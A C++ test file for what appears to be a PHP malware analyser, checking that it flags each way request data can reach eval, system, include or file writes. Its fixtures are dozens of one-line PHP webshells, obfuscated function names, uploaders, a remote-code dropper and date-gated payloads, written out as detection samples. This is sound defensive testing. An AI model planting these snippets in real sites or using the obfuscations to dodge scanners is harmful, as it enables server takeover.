@@ -1,0 +1,268 @@
+// Recall by mechanism: every way in which foreign data reach execution that the analyser promises to see.
+#include "php/analysis.h"
+
+#include <gtest/gtest.h>
+
+#include "php/fixtures.h"
+
+namespace aplomb::php {
+namespace {
+
+using test::find;
+using test::Fixture;
+using test::listed;
+using test::php;
+
+void expect_all(std::span<const Fixture> fixtures) {
+  for (const Fixture& fixture : fixtures) {
+    Analysis analysis = php(fixture.code);
+    EXPECT_NE(find(analysis, fixture.rule, fixture.level), nullptr) << fixture.what << "\n"
+                                                                    << listed(analysis);
+    EXPECT_FALSE(analysis.hit_limit) << fixture.what;
+  }
+}
+
+TEST(Analysis, SeesRequestDataRunAsCode) {
+  constexpr Fixture kFixtures[] = {
+      {"eval", "<?php eval($_POST['x']);", "php-request-to-eval"},
+      {"silenced assert", "<?php @assert($_REQUEST['x']);", "php-request-to-eval"},
+      {"create_function", "<?php $f = create_function('', $_POST['x']); $f();", "php-request-to-eval"},
+      {"preg_replace /e", "<?php preg_replace('/.*/e', $_POST['x'], '');", "php-request-to-eval"},
+      {"preg_replace /e on the subject", "<?php preg_replace('#(.*)#ise', '\\1', $_COOKIE['x']);",
+       "php-request-to-eval"},
+      {"pattern of the visitor", "<?php preg_replace($_GET['p'], $_GET['r'], 'x');", "php-request-to-eval"},
+      {"mb_ereg_replace e", "<?php mb_ereg_replace('.*', $_GET['r'], '', 'e');", "php-request-to-eval"},
+      {"decoded first", "<?php eval(gzinflate(base64_decode($_COOKIE['a'])));", "php-request-to-eval"},
+      {"inside other text", "<?php $c = trim($_GET['c']); eval(\"return $c;\");", "php-request-to-eval"},
+      {"header", "<?php $h = getallheaders(); eval($h['X-Run']);", "php-request-to-eval"},
+      {"header of $_SERVER", "<?php eval($_SERVER['HTTP_X_RUN']);", "php-request-to-eval"},
+      {"body", "<?php eval(file_get_contents('php://input'));", "php-request-to-eval"},
+      {"body by handle", "<?php $h = fopen('php://input', 'r'); eval(fread($h, 99));", "php-request-to-eval"},
+      {"filter_input", "<?php eval(filter_input(INPUT_POST, 'a'));", "php-request-to-eval"},
+      {"$GLOBALS", "<?php eval($GLOBALS['_POST']['x']);", "php-request-to-eval"},
+      {"built superglobal", "<?php eval(${'_PO' . 'ST'}['a']);", "php-request-to-eval"},
+      {"superglobal by name", "<?php $n = '_GET'; eval($$n['a']);", "php-request-to-eval"},
+      {"extract", "<?php extract($_REQUEST); eval($code);", "php-request-to-eval"},
+      {"parse_str", "<?php parse_str($_SERVER['QUERY_STRING'], $q); eval($q['a']);", "php-request-to-eval"},
+      {"variables from a loop", "<?php foreach ($_POST as $k => $v) { $$k = $v; } eval($run);",
+       "php-request-to-eval"},
+      {"foreach value", "<?php foreach ($_POST as $v) eval($v);", "php-request-to-eval"},
+      {"list", "<?php list($a, $b) = explode('|', $_POST['x']); eval($b);", "php-request-to-eval"},
+      {"one arm of a branch", "<?php if ($a) { $c = 'x'; } else { $c = $_GET['c']; } eval($c);",
+       "php-request-to-eval"},
+      {"goto", "<?php goto a; b: eval($x); goto c; a: $x = $_POST['k']; goto b; c:", "php-request-to-eval"},
+      {"loop carries it", "<?php while (1) { eval($x); $x = $_POST['k']; }", "php-request-to-eval"},
+      {"nullsafe default", "<?php eval($_POST['x'] ?? $_GET['x'] ?? '');", "php-request-to-eval"},
+      {"alternative syntax", "<?php if (1): eval($_POST['x']); endif;", "php-request-to-eval"},
+      {"match", "<?php $c = match(1) { 1 => $_GET['c'], default => '' }; eval($c);", "php-request-to-eval"},
+      {"in html", "<p>text</p><?= eval($_GET['c']) ?>", "php-request-to-eval"},
+  };
+  expect_all(kFixtures);
+}
+
+TEST(Analysis, FollowsDataThroughFunctionsAndObjects) {
+  constexpr Fixture kFixtures[] = {
+      {"two functions",
+       "<?php function get() { return $_REQUEST['z']; } function run($c) { eval($c); } run(get());",
+       "php-request-to-eval"},
+      {"called before it is declared", "<?php run($_POST['a']); function run($c) { eval($c); }",
+       "php-request-to-eval"},
+      {"nested functions", "<?php function o() { function i($x) { passthru($x); } i($_POST['a']); } o();",
+       "php-request-to-command"},
+      {"destructor",
+       "<?php class A { public $c; function __destruct() { eval($this->c); } } $a = new A; $a->c = "
+       "$_POST['p'];",
+       "php-request-to-eval"},
+      {"constructor",
+       "<?php class Q { private $v; function __construct($v) { $this->v = $v; } function run() { "
+       "eval($this->v); } } (new Q($_POST['v']))->run();",
+       "php-request-to-eval"},
+      {"static method", "<?php class B { static function go($x) { system($x); } } B::go($_GET['c']);",
+       "php-request-to-command"},
+      {"static property", "<?php class B { static $c; } B::$c = $_GET['c']; eval(B::$c);",
+       "php-request-to-eval"},
+      {"anonymous class", "<?php $o = new class { function go($x) { eval($x); } }; $o->go($_POST['a']);",
+       "php-request-to-eval"},
+      {"closure", "<?php $f = function ($x) { eval($x); }; $f($_POST['a']);", "php-request-to-eval"},
+      {"closure captures", "<?php $c = $_POST['a']; $f = function () use ($c) { eval($c); }; $f();",
+       "php-request-to-eval"},
+      {"closure called in place", "<?php (function ($x) { system($x); })($_GET['a']);",
+       "php-request-to-command"},
+      {"global", "<?php $c = $_POST['a']; function f() { global $c; eval($c); } f();", "php-request-to-eval"},
+      {"function by name", "<?php function run($c) { eval($c); } call_user_func('run', $_POST['a']);",
+       "php-request-to-eval"},
+  };
+  expect_all(kFixtures);
+}
+
+TEST(Analysis, SeesRequestDataRunAsCommands) {
+  constexpr Fixture kFixtures[] = {
+      {"system", "<?php system($_GET['c']);", "php-request-to-command"},
+      {"shell_exec of a header", "<?php echo shell_exec($_SERVER['HTTP_X_CMD']);", "php-request-to-command"},
+      {"backticks", "<?php echo `$_GET[c]`;", "php-request-to-command"},
+      {"behind a shell", "<?php exec('sh -c ' . $_POST['c'], $out);", "php-request-to-command"},
+      {"with redirection", "<?php popen($_POST['c'] . ' 2>&1', 'r');", "php-request-to-command"},
+      {"proc_open", "<?php proc_open($_COOKIE['c'], [], $pipes);", "php-request-to-command"},
+  };
+  expect_all(kFixtures);
+}
+
+TEST(Analysis, SeesNamesThatAreBuilt) {
+  constexpr Fixture kFixtures[] = {
+      {"concatenated", "<?php $f = 'ass' . 'ert'; $f($_POST['q']);", "php-request-to-eval"},
+      {"called in place", "<?php ('sys' . 'tem')($_POST['q']);", "php-request-to-command"},
+      {"table",
+       "<?php $t = array('s','y','t','e','m'); $f = $t[0].$t[1].$t[0].$t[2].$t[3].$t[4]; $f($_GET['c']);",
+       "php-request-to-command"},
+      {"indexed text", "<?php $s = 'abcersyt'; $f = $s[0].$s[5].$s[5].$s[3].$s[4].$s[7]; $f($_GET['c']);",
+       "php-request-to-eval"},
+      {"implode", "<?php $f = implode('', ['p','ass','thru']); $f($_GET['c']);", "php-request-to-command"},
+      {"chr", "<?php $f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $f($_POST[0]);",
+       "php-request-to-eval"},
+      {"xor", "<?php $f = ('`' ^ \"\\x01\") . 'ss' . ('%' ^ '@') . 'rt'; $f($_GET['z']);",
+       "php-request-to-eval"},
+      {"not", "<?php $f = ~\"\\x9e\\x8c\\x8c\\x9a\\x8d\\x8b\"; $f($_GET['z']);", "php-request-to-eval"},
+      {"strrev", "<?php $f = strrev('metsys'); $f($_GET['z']);", "php-request-to-command"},
+      {"rot13", "<?php $f = str_rot13('flfgrz'); $f($_GET['z']);", "php-request-to-command"},
+      {"str_replace", "<?php $f = str_replace('#', '', 's#ys#te#m'); $f($_GET['z']);",
+       "php-request-to-command"},
+      {"sprintf", "<?php $f = sprintf('%s%c', 'syste', 109); $f($_GET['z']);", "php-request-to-command"},
+      {"escapes", "<?php $f = \"\\x73\\x79\\x73\\164\\145\\155\"; $f($_GET['z']);", "php-request-to-command"},
+      {"incremented letters", "<?php $_ = 'r'; $_++; $f = $_ . 'ystem'; $f($_GET['z']);",
+       "php-request-to-command"},
+      {"appended", "<?php $f = 'sys'; $f .= 'tem'; $f($_GET['z']);", "php-request-to-command"},
+      {"bare words", "<?php $f = sys . te . m; $f($_GET['z']);", "php-request-to-command"},
+      {"bare words and xor", "<?php $f = rxrudl ^ \"\\1\\1\\1\\1\\1\\1\"; $f($_GET['z']);",
+       "php-request-to-command"},
+      {"name of the file", "<?php $f = substr(basename(__FILE__), 0, -4); $f($_POST['c']);",
+       "php-request-to-callback"},
+      {"constant", "<?php define('RUN', 'sys' . 'tem'); $f = RUN; $f($_GET['z']);", "php-request-to-command"},
+      {"element", "<?php $k = ['x' => 'sys']; $k['x'] .= 'tem'; $k['x']($_POST['q']);",
+       "php-request-to-command"},
+      {"name of a callback", "<?php array_filter(array($_POST['a']), base64_decode('YXNzZXJ0'));",
+       "php-request-to-eval"},
+      {"hidden name alone", "<?php $f = 'ass' . 'ert'; $f($_POST['q']);", "php-disguised-call",
+       Level::suspicious},
+  };
+  expect_all(kFixtures);
+}
+
+TEST(Analysis, SeesFunctionsThatTheVisitorChooses) {
+  constexpr Fixture kFixtures[] = {
+      {"called", "<?php $_GET['f']($_GET['x']);", "php-request-to-callback"},
+      {"call_user_func", "<?php call_user_func($_POST['f'], $_POST['x']);", "php-request-to-callback"},
+      {"array_map", "<?php array_map($_GET['f'], $_GET['x']);", "php-request-to-callback"},
+      {"usort", "<?php usort($_GET['a'], $_GET['f']);", "php-request-to-callback"},
+      {"shutdown", "<?php register_shutdown_function($_REQUEST['f'], $_REQUEST['a']);",
+       "php-request-to-callback"},
+      {"reflection", "<?php $r = new ReflectionFunction($_GET['f']); $r->invoke($_GET['x']);",
+       "php-request-to-callback"},
+      {"fixed callback", "<?php array_map('assert', array($_POST['x']));", "php-request-to-eval"},
+      {"fixed comparison", "<?php usort($_GET['a'], 'assert');", "php-request-to-eval"},
+      {"walked", "<?php array_walk($_POST, 'system');", "php-request-to-command"},
+  };
+  expect_all(kFixtures);
+}
+
+TEST(Analysis, SeesFilesThatTheVisitorChoosesOrWrites) {
+  constexpr Fixture kFixtures[] = {
+      {"include", "<?php include($_GET['p']);", "php-request-to-include"},
+      {"include with a suffix", "<?php include $_GET['p'] . '.php';", "php-request-to-include"},
+      {"upload", "<?php require_once $_FILES['f']['tmp_name'];", "php-request-to-include"},
+      {"body", "<?php include 'php://input';", "php-request-to-include"},
+      {"written code", "<?php file_put_contents('x.php', $_POST['c']);", "php-request-to-written-code"},
+      {"written anywhere", "<?php file_put_contents($_POST['n'], $_POST['c']);",
+       "php-request-to-written-code"},
+      {"by handle", "<?php $h = fopen('a.phtml', 'w'); fwrite($h, base64_decode($_POST['d']));",
+       "php-request-to-written-code"},
+      {"settings", "<?php file_put_contents('.htaccess', $_POST['c']);", "php-request-to-written-code"},
+      {"uploader", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
+       "php-request-to-written-code"},
+      {"uploader into a folder",
+       "<?php copy($_FILES['f']['tmp_name'], 'up/' . basename($_FILES['f']['name']));",
+       "php-request-to-written-code"},
+      {"dropper", "<?php file_put_contents('a.php', file_get_contents('http://198.51.100.1/a.txt'));",
+       "php-request-to-written-code"},
+      {"unserialize", "<?php $o = unserialize($_COOKIE['o']);", "php-request-to-unserialize",
+       Level::suspicious},
+      {"mass mail", "<?php foreach ($_POST['to'] as $t) { mail($t, 's', 'b'); }", "php-mass-mail",
+       Level::suspicious},
+  };
+  expect_all(kFixtures);
+}
+
+TEST(Analysis, SeesCodeFromElsewhere) {
+  constexpr Fixture kFixtures[] = {
+      {"fetched", "<?php eval(file_get_contents('http://198.51.100.1/x'));", "php-remote-code"},
+      {"curl", "<?php $c = curl_init('x'); eval('?>' . curl_exec($c));", "php-remote-code"},
+      {"included", "<?php include 'https://198.51.100.1/x';", "php-remote-code"},
+      {"own bytes", "<?php $d = file_get_contents(__FILE__); eval(gzinflate(substr($d, 200)));",
+       "php-own-bytes-executed"},
+      {"own data",
+       "<?php $h = fopen(__FILE__, 'r'); fseek($h, __COMPILER_HALT_OFFSET__); eval(fread($h, 999)); "
+       "__halt_compiler();x",
+       "php-own-bytes-executed"},
+      {"picture beside it", "<?php eval(file_get_contents('logo.png'));", "php-neighbour-executed"},
+      {"hidden path of a picture",
+       "<?php @include \"\\x2f\\x76\\x61\\x72\\x2f\\x77\\x77\\x77\\x2f\\x66\\x2e\\x69\\x63\\x6f\";",
+       "php-neighbour-executed"},
+      {"plain path of a picture", "<?php include 'fav.ico';", "php-neighbour-executed", Level::suspicious},
+  };
+  expect_all(kFixtures);
+}
+
+TEST(Analysis, NamesThePathWithItsLines) {
+  Analysis analysis = php("<?php\n$a = $_POST['k'];\n$b = trim($a);\neval($b);\n");
+  const Finding* found = find(analysis, "php-request-to-eval", Level::malicious);
+  ASSERT_NE(found, nullptr);
+  EXPECT_EQ(found->line, 4U);
+  EXPECT_EQ(found->reason.text(),
+            "line 2: request data ($_POST['k']) reach eval at line 4, which runs them as PHP");
+}
+
+TEST(Analysis, ReportsAGateBesideTheSinkItGuards) {
+  for (std::string_view code :
+       {"<?php if (date('Ymd') > 20300101) { eval($_POST['x']); }",
+        "<?php if (time() < 1900000000) exit; eval($_POST['x']);",
+        "<?php if ($_SERVER['HTTP_REFERER'] == 'a') { if (1) system($_GET['c']); }",
+        "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'bot') === false) exit(); eval($_POST['x']);"}) {
+    Analysis analysis = php(code);
+    EXPECT_EQ(worst(analysis.findings), Level::malicious) << code;
+    bool is_gated = find(analysis, "php-dormant-gate", Level::suspicious) != nullptr;
+    EXPECT_TRUE(is_gated) << code;
+  }
+  EXPECT_EQ(find(php("<?php if ($a) { eval($_POST['x']); }"), "php-dormant-gate", Level::suspicious),
+            nullptr);
+}
+
+TEST(Analysis, ReadsAFileInEveryDialectThatWouldRunIt) {
+  constexpr Fixture kFixtures[] = {
+      {"short tag", "<? eval($_POST['a']);", "php-request-to-eval"},
+      {"script tag", "<script language=\"php\">eval($_POST['a']);</script>", "php-request-to-eval"},
+      {"asp tag", "<% eval($_POST['a']); %>", "php-request-to-eval"},
+      {"short tag hides code in a string", "<? ' ?><?php eval($_POST['a']); // '", "php-request-to-eval"},
+      {"attribute hides code in a string", "<?php #[ '\neval($_POST['a']); #'", "php-request-to-eval"},
+      {"code in an attribute", "<?php #[A(eval($_POST['a']))]\nfunction f() {}", "php-request-to-eval"},
+  };
+  expect_all(kFixtures);
+}
+
+TEST(Analysis, SeesCodePushedOutOfSight) {
+  std::string code = "<?php $a = 1;" + std::string(300, ' ') + "echo 'token';\n";
+  EXPECT_NE(find(php(code), "php-hidden-code", Level::suspicious), nullptr);
+  std::string honest = "<?php $a = 1;\n" + std::string(300, ' ') + "echo 'token';\n";
+  EXPECT_TRUE(php(honest).findings.empty());
+  std::string remark = "<?php $a = 1;" + std::string(300, ' ') + "// remark\n";
+  EXPECT_TRUE(php(remark).findings.empty());
+}
+
+TEST(Analysis, SeesALongEncodedRunWhereCodeCouldRunIt) {
+  std::string blob(1200, 'Q');
+  EXPECT_NE(find(php("<?php $b = '" + blob + "'; $f($b);"), "php-long-encoded-blob", Level::suspicious),
+            nullptr);
+  EXPECT_TRUE(php("<?php $picture = 'iVBOR" + blob + "'; $f($picture);").findings.empty());
+  EXPECT_TRUE(php("<?php return '" + blob + "';").findings.empty());
+}
+
+}  // namespace
+}  // namespace aplomb::php
